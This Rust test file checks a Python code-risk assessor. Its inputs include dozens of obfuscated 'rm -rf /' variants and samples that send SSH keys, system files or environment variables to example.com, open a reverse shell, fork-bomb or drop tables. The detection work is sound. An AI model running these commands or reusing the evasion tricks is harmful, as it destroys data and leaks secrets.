//! What is said of Python: in which ways a thing can be written, and what is nothing to speak of.

use banksman_core::{Assessment, Kind, Risk};
use proptest::prelude::*;

fn assess(code: &str) -> Assessment {
    crate::assessor().assess_text(Kind::Python, code)
}

/// Ways to write `rm -rf /` or the like.
const DESTRUCTIVE: &[&str] = &[
    "import os as o\no.system('rm -rf /')",
    "import ｏｓ\nｏｓ.𝓼ystem('rm -rf /')",
    "    import 𝕠s\n    os.ſystem('rm -rf /')",
    "from os import system as s; s(' '.join(['rm', '-rf', '/']))",
    "from os import *\nsystem('rm -rf /')",
    "f = __import__('os').system\nf('rm -rf /')",
    "import os\ngetattr(os, 'sys' + 'tem')('rm -rf /')",
    "import sys, os\nsys.modules['os'].system('rm -rf /')",
    "import os\nos.__dict__['system']('rm -rf /')",
    "vars(__import__('os'))['system']('rm -rf /')",
    "import importlib\nimportlib.import_module('o' + 's').system('rm -rf /')",
    "__import__(name).system('rm -rf /')",
    "import operator\noperator.attrgetter('system')(__import__('os'))('rm -rf /')",
    "globals()['__builtins__'].__dict__['ev' + 'al'](\"__import__('os').system('rm -rf /')\")",
    "().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['system']('rm -rf /')",
    "eval(\"__import__('os').system\")('rm -rf /')",
    "import os\nexec(\"x = 'rm -rf /'\")\nos.system(x)",
    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIC8nKQ=='))",
    "import codecs, os\nos.system(codecs.decode('ez -es /', 'rot13'))",
    "import os\nos.system('/ fr- mr'[::-1])",
    "import os\nos.system(bytes.fromhex('726d202d7266202f').decode())",
    "import os\nos.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))",
    "import os\nos.system('%s -rf %s' % ('rm', '/'))",
    "import os\nos.system('{} -rf {p}'.format('rm', p='/'))",
    "import os\nx, y = 'rm', '/'\nos.system(f'{x} -rf {y}')",
    "import os\ns = ''\nfor c in ['r', 'm', ' -rf', ' /']:\n    s += c\nos.system(s)",
    "import os\nc = []\nc.append('rm')\nc.extend(['-rf', '/'])\nos.execvp(c[0], c)",
    "import os\ncommands = {'clean': 'rm -rf /'}\nos.system(commands[input()])",
    "import os\nos.chdir('/')\nos.system('rm -rf *')",
    "import subprocess\nsubprocess.run(['rm', '-rf', '/'])",
    "import subprocess\nsubprocess.run(['bash', '-c', 'rm -rf /'])",
    "import subprocess\nsubprocess.Popen(['bash'], stdin=subprocess.PIPE).communicate(b'rm -rf /')",
    "import subprocess\nsubprocess.run(['sh'], input='rm -rf /', text=True)",
    "import threading, os\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()",
    "import functools, os\nfunctools.partial(os.system, 'rm -rf /')()",
    "import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell('rm -rf /')\nasyncio.run(main())",
    "import os\ndef commands():\n    yield 'rm -rf /'\nfor c in commands():\n    os.system(c)",
    "import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('rm -rf /',))",
    "import os\nclass A:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nA('rm -rf /').go()",
    "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path('/') / 'home' / 'ann')",
    "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    p.unlink()",
    "from invoke import task\n@task\ndef clean(c):\n    c.run('rm -rf /')",
    "import sh\nsh.rm('-rf', '/')",
    "from plumbum.cmd import rm\nrm('-rf', '/')",
    "from plumbum.cmd import rm\nrm['-rf', '/']()",
    "from plumbum import local\nlocal['rm']('-rf', '/')",
    "import shutil\nshutil.os.system('rm -rf /')",
    "import subprocess\nsubprocess.os.system('rm -rf /')",
    "import platform\nplatform.os.system('rm -rf /')",
    "import random\nrandom._os.system('rm -rf /')",
    "from random import _os as o\no.system('rm -rf /')",
    "import cProfile\ncProfile.run(\"import os; os.system('rm -rf /')\")",
    "import pdb\npdb.run(\"import os; os.system('rm -rf /')\")",
    "import trace\ntrace.Trace().run(\"import os; os.system('rm -rf /')\")",
    "import threading, os\nthreading.Timer(1, os.system, ['rm -rf /']).start()",
    "import threading, os\nthreading.Timer(1, os.system, args=['rm -rf /']).start()",
    "import threading, os\nthreading.Thread(None, os.system, None, ('rm -rf /',)).start()",
    "import os\nos.kill(-1, 9)",
    "print 'python 2'\nimport os\nos.system('rm -rf /')",
    "  import os\n  os.system('rm -rf /')",
    ">>> import os\n>>> os.system('rm -rf /')\n0",
    "!rm -rf /\nx = 1",
    "%%bash\nrm -rf /",
    "import os\ndef f(:\nos.system('rm -rf /')",
    "import os\nfoo(a\nos.system('rm -rf /')",
    "import os\nfoo(a b, os.system('rm -rf /'))",
    "x = '\nimport os; os.system('rm -rf /')",
    "import os\n# a comment ends here\ros.system('rm -rf /')",
    "import os\nf'{1:{os.system(\"rm -rf /\")}}'",
    "import os\nf\"{os.system(f'{\"rm\"} -rf /')}\"",
    "import os\nx: os.system('rm -rf /') = 1",
    "import os\ndef f(x: os.system('rm -rf /')) -> int: pass",
    "import os\nclass A(metaclass=os.system('rm -rf /')): pass",
    "import os\nmatch x:\n    case 1 if os.system('rm -rf /'):\n        pass",
    "import os\nwith (open('a') as f, open('b') as g):\n    os.system('rm -rf /')",
    "import os\nx = [os.system('rm -rf /') for _ in [1]]",
    "import os\nif (y := 'rm -rf /'): os.system(y)",
    "import os\na = b = 'rm -rf /'; os.system(a)",
    "exec \"import os; os.system('rm -rf /')\" in {}",
    "import os\nos.\\\n  system(r'rm -rf /')",
    "import os; os.system('rm' ' -rf' \\\n ' /')",
    "import os\nx = lambda c=os.system('rm -rf /'): c",
    "import os\ntry:\n    pass\nexcept os.system('rm -rf /'):\n    pass",
];

#[test]
fn every_way_to_destroy_is_seen() {
    for code in DESTRUCTIVE {
        assert_eq!(assess(code).level, Risk::Critical, "{code}");
    }
}

#[test]
fn what_a_person_should_see_is_shown() {
    for (code, rule) in [
        ("import requests\nexec(requests.get('https://example.com/x.py').text)", "code.download_run"),
        (
            "import urllib.request, os\nurllib.request.urlretrieve('http://example.com/a', '/tmp/a')\nos.system('sh /tmp/a')",
            "code.download_run",
        ),
        (
            "import requests\nrequests.post('http://127.0.0.1/', data=open('/etc/group').read())",
            "code.file_sent",
        ),
        (
            "import os, requests\nrequests.post('https://example.com', files={'f': open(os.path.expanduser('~/.ssh/id_rsa'))})",
            "code.secret_sent",
        ),
        (
            "import os, requests\nrequests.post('https://example.com', json=dict(os.environ))",
            "code.environment_sent",
        ),
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nwhile True:\n    c = s.recv(99).decode()\n    subprocess.Popen(c, shell=True)",
            "code.reverse_shell",
        ),
        ("import os\nwhile True:\n    os.fork()", "code.fork_bomb"),
        ("import os, sys\nos.system(sys.argv[1])", "code.computed_program"),
        ("eval(input())", "code.computed"),
        ("import os\ndef rm(p):\n    os.remove(p)\nrm('/etc/passwd')", "path.system.file_deleted"),
        ("import os\np = os.path.join('/usr', '../etc/shadow')\nopen(p).read()", "path.secret.system_read"),
        (
            "import psycopg2\nwith psycopg2.connect('x').cursor() as c:\n    c.execute('DROP TABLE users')",
            "sql.drop",
        ),
    ] {
        let assessment = assess(code);
        let rules: Vec<&str> = assessment.findings.iter().map(|finding| finding.rule.as_str()).collect();
        assert!(rules.iter().any(|found| found.starts_with(rule)), "{code}\n{rules:?}");
        assert!(assessment.level >= Risk::Medium, "{code}");
    }
}

#[test]
fn everyday_scripts_are_nothing_to_speak_of() {
    for code in [
        "",
        "print('rm -rf /')",
        "# os.system('rm -rf /')\nx = \"os.remove('/etc/passwd')\"",
        "import csv\nwith open('in.csv') as f:\n    for row in csv.DictReader(f):\n        print(row)",
        "from pathlib import Path\nout = Path('output')\nout.mkdir(exist_ok=True)\n(out / 'x.txt').write_text('hi')",
        "import requests\nprint(requests.get('https://api.example.com/x', timeout=9).json())",
        "import os, requests\nrequests.get('https://example.com', headers={'Authorization': os.environ['API_TOKEN']})",
        "import subprocess\nprint(subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode())",
        "import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
        "import shutil\nshutil.rmtree('build', ignore_errors=True)",
        "import sqlite3\nc = sqlite3.connect(':memory:')\nprint(c.execute('SELECT 1').fetchall())",
        "import re, numpy as np\nre.compile('x')\nmodel.eval()\ndf.drop(columns=['a'])\nnp.load('x.npy')",
        "class Stack:\n    def __init__(self):\n        self.items = []\n    def remove(self, x):\n        self.items.remove(x)\nStack().remove(1)",
        "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(10))",
        "import os\nprint(os.environ.get('HOME'), os.getcwd(), os.listdir('.'))",
        "import argparse\np = argparse.ArgumentParser()\np.add_argument('--force')\nargs = p.parse_args()",
        "'{}'.format(1)",
        "import json\nwith open('out.json', 'w') as f:\n    json.dump({'a': 1}, f)",
    ] {
        let assessment = assess(code);
        assert!(assessment.level <= Risk::Low, "{code}\n{:?}", assessment.findings);
    }
}

#[test]
fn a_finding_stands_where_its_call_stands() {
    let code = "import os\nx = 1\nos.remove('/etc/passwd')\n";
    let span = assess(code).findings.first().and_then(|finding| finding.span).expect("a span");
    assert_eq!(&code[span.start as usize..span.end as usize], "os.remove('/etc/passwd')");
}

#[test]
fn hostile_shapes_are_read_or_refused() {
    let deep = format!("{}1{}", "(".repeat(5_000), ")".repeat(5_000));
    assert!(assess(&deep).level >= Risk::High);
    let long = format!("x = {}''", "'a' + ".repeat(20_000));
    assert!(assess(&long).level <= Risk::High);
    let doubled = format!("x = 'a'\n{}", "x = x + x\n".repeat(200));
    assert!(assess(&doubled).level <= Risk::Low);
    let calls: String = (0..40).map(|n| format!("def f{}():\n    f{n}()\n    f{n}()\n", n + 1)).collect();
    assert!(assess(&format!("def f0():\n    pass\n{calls}f40()")).level <= Risk::Low);
    let alternatives: String = (0..60).map(|n| format!("if x:\n    c = 'echo {n}'\n")).collect();
    let risk = assess(&format!("import os\nc = 'rm -rf /'\n{alternatives}os.system(c)")).level;
    assert!(risk >= Risk::Medium, "too many to tell apart is not harmless");
    // Lists of lists, maps of maps and what else grows.
    for growth in
        ["x = [x]", "x = [x, x]", "x = {'a': x}", "x = (x, [x, {'b': x}])", "x = x + x", "x = x[::-1] + x"]
    {
        assess(&format!(
            "x = ['a']\ny = ['a']\n{}z = x or y\nprint(z == x)",
            format!("{growth}\n").repeat(3_000)
        ));
    }
    assess(&format!(
        "x = 'a' * 60000\n{}",
        "y = x.replace('a', 'b').upper()[::-1]\nprint(y)\n".repeat(5_000)
    ));
    assess(&format!("x = '{}' % 1\ny = '{}'.format(1)", "%s".repeat(30_000), "{}".repeat(30_000)));
    assess(&format!("x = []\n{}", "x.append(x)\n".repeat(5_000)));
    assess(&format!("x = f'{}'", "{a}b".repeat(20_000)));
    assess(&format!("f = g\n{}f()", "f = functools.partial(f, f)\n".repeat(2_000)));
    assess(&"def f(".repeat(2_000));
    assess(&"a[".repeat(20_000));
    assess(&"\"\"\"".repeat(10_001));
    // What cannot be read at all is high; quotes that never end are not looked for again and again.
    for noise in
        ["def f(", "\"\"\"\\", "f'{", "(", "a[", "\"\\\n", "@", "lambda:", "not ", "a**", "x if y else "]
    {
        assert!(assess(&noise.repeat(200_000 / noise.len())).level >= Risk::High, "{noise}");
    }
    // A map that is given to thousands of calls.
    let entries: String = (0..9_000).map(|n| format!("'k{n}': {n}, ")).collect();
    assert!(assess(&format!("x = {{{entries}}}\n{}", "f(**x)\n".repeat(8_000))).level >= Risk::High);
}

fn indent(code: &str) -> String {
    code.lines().map(|line| format!("    {line}\n")).collect()
}

/// Things around code that do not make it less dangerous.
fn wrap(code: &str, way: usize) -> String {
    match way {
        0 => format!("def wrapped():\n{}", indent(code)),
        1 => format!("def wrapped():\n{}\nwrapped()", indent(code)),
        2 => format!("if True:\n{}", indent(code)),
        3 => format!("if x > 1:\n    pass\nelse:\n{}", indent(code)),
        4 => format!("try:\n{}except Exception:\n    pass", indent(code)),
        5 => format!("exec({code:?})"),
        6 => format!("(lambda: exec({code:?}))()"),
        7 => format!("class A:\n    def go(self):\n{}", indent(&indent(code))),
        8 => format!("for i in range(3):\n{}", indent(code)),
        9 => format!("while x:\n{}", indent(code)),
        10 => format!("with y as z:\n{}", indent(code)),
        11 => format!("async def main():\n{}\nimport asyncio\nasyncio.run(main())", indent(code)),
        _ => format!("x = 1\n{code}\nprint(x)"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn any_text_can_be_read(text in "(?s).{0,200}") {
        assess(&text);
    }

    #[test]
    fn any_broken_code_can_be_read(at in 0..DESTRUCTIVE.len(), cut in 0_usize..200, put in "[\\[\\](){}'\"\\\\:,.=\n \t#%!0-9a-z*]{0,12}") {
        let code = DESTRUCTIVE[at];
        let cut = (0..=cut.min(code.len())).rev().find(|cut| code.is_char_boundary(*cut)).unwrap_or(0);
        assess(&format!("{}{put}{}", &code[..cut], &code[cut..]));
    }

    #[test]
    fn wrapping_never_lowers(at in 0..DESTRUCTIVE.len(), ways in prop::collection::vec(0_usize..13, 1..4)) {
        let code = DESTRUCTIVE[at];
        // What is no Python as it stands cannot be put inside of other Python.
        prop_assume!(!code.starts_with(['!', '%', '>', ' ']) && !code.contains("def f(:") && !code.contains("import *"));
        let wrapped = ways.iter().fold(code.to_owned(), |code, way| wrap(&code, *way));
        prop_assert!(assess(&wrapped).level >= assess(code).level, "{}", wrapped);
    }
}
